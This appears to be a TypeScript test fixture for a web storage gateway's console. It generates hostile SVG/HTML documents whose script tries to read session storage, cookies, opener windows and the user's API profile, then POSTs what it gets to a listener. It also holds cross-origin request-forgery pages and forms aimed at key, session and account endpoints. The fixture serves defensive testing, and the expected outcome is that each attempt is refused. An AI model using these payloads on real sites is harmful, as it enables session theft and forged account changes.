/** Documents that try to get at the session of the console, and pages of other origins that forge requests. */

/** What a script can say that has nothing: it ran, and each way to the session failed. */
export const POWERLESS = {
  sessionStorage: "refused",
  localStorage: "refused",
  cookie: "refused",
  opener: "refused",
  parent: "refused",
  console: "refused",
  api: "refused",
  worker: "refused",
};

/** A document of this type whose script tries them, and reports to `listener` what each gave. */
export function documentOf(type: string, listener: string): string {
  const script = `(async () => {
    const report = {};
    const attempt = async (name, get) => {
      try { report[name] = String((await get()) ?? "refused"); } catch { report[name] = "refused"; }
    };
    await attempt("sessionStorage", () => JSON.stringify(Object.assign({}, sessionStorage)));
    await attempt("localStorage", () => JSON.stringify(Object.assign({}, localStorage)));
    await attempt("cookie", () => "cookie: " + document.cookie);
    await attempt("opener", () => JSON.stringify(Object.assign({}, opener.sessionStorage)));
    await attempt("parent", () => parent === window ? undefined : parent.document.title);
    await attempt("console", async () => {
      const opened = window.open("/-/");
      // Until it is there its window is this script's own; of a page that is another's even the address is refused.
      const isThere = () => opened.location.href !== "about:blank" && opened.document.readyState === "complete";
      try {
        while (!isThere()) await new Promise((resolve) => setTimeout(resolve));
        return opened.document.title;
      } finally { opened.close(); }
    });
    await attempt("api", async () => (await fetch("/-/api/v1/me")).text());
    await attempt("worker", () => navigator.serviceWorker.register("/evil/page-0"));
    await fetch("${listener}/heard", { method: "POST", mode: "no-cors", body: JSON.stringify(report) });
  })();`;
  const code = script.replaceAll("&", "&amp;").replaceAll("<", "&lt;");
  if (type === "image/svg+xml") return `<svg xmlns="http://www.w3.org/2000/svg"><script>${code}</script></svg>`;
  if (/xml/.test(type))
    return `<html xmlns="http://www.w3.org/1999/xhtml"><body><script>${code}</script></body></html>`;
  return `<!doctype html><body><script>${script}</script></body>`;
}

/**
 * Posts JSON, text and nothing to each call that changes something, as scripts do. GATEWAY: its address. It
 * reports to its own origin what became of each: "opaque", "refused", or what could be read.
 */
export const FORGE = `<!doctype html>
<script>
addEventListener("load", async () => {
  const body = '{"account":"root","name":"forged","bucket":"evil","minutes":480}';
  const calls = ["keys", "accounts", "sessions", "sign-in-links", "sign-in", "links", "backends", "claims"];
  const asked = [];
  for (const call of calls)
    for (const [mode, type] of [["cors", "application/json"], ["cors", "text/plain"], ["no-cors", "text/plain"]])
      asked.push(["GATEWAY/-/api/v1/" + call, { method: "POST", mode, headers: { "content-type": type }, body }]);
  for (const method of ["PUT", "DELETE", "POST"]) asked.push(["GATEWAY/evil/forged", { method, body }]);
  for (const path of ["/", "/evil", "/evil/harmless.txt", "/-/api/v1/me", "/-/api/v1/keys", "/-/"])
    asked.push(["GATEWAY" + path, { credentials: "include" }]);
  const outcomes = asked.map(async ([url, init]) => {
    try {
      const answer = await fetch(url, init);
      return answer.type === "opaque" ? "opaque" : "read " + url + " " + answer.status;
    } catch { return "refused"; }
  });
  await fetch("/heard", { method: "POST", body: JSON.stringify(await Promise.all(outcomes)) });
});
</script>`;

/** Forms that are posted one at a time. */
export const FORMS = `<!doctype html>
<form id="keys" method="post" enctype="text/plain" action="GATEWAY/-/api/v1/keys">
  <input name='{"account":"root","note":"' value='"}'></form>
<form id="sessions" method="post" action="GATEWAY/-/api/v1/sessions"><input name="minutes" value="480"></form>
<form id="bucket" method="post" enctype="multipart/form-data" action="GATEWAY/evil">
  <input name="key" value="forged"><input name="file" value="forged"></form>
<form id="object" method="post" action="GATEWAY/evil?delete"><input name="x" value="y"></form>`;
